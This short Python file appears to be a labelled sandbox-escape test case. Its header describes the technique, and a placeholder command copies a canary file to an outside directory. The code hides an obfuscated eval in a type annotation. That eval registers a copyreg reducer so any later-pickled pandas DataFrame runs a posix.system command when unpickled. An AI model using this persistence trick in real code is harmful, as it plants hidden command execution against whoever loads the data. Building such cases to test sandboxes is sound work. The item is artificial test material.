# class: pickle_like
# technique: copyreg.pickle(pd.DataFrame, reducer) registered from a singledispatch register annotation: every later pickle of a frame carries a posix.system call for whoever unpickles it (E32)
# goal: persist
import functools

import numpy as np
import pandas as pd

imp = "_" * 2 + "import" + "_" * 2
cmd = "cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-poisoned"
done = []


@functools.singledispatch
def reg(value):
    return value


@reg.register
def reg_int(value: "[done.append(eval(imp)('copyreg').pickle(pd.DataFrame, lambda f: (eval(imp)('posix').system, (cmd,)))), int][-1]"):
    return value


df = pd.DataFrame({"registered": [len(done)]})
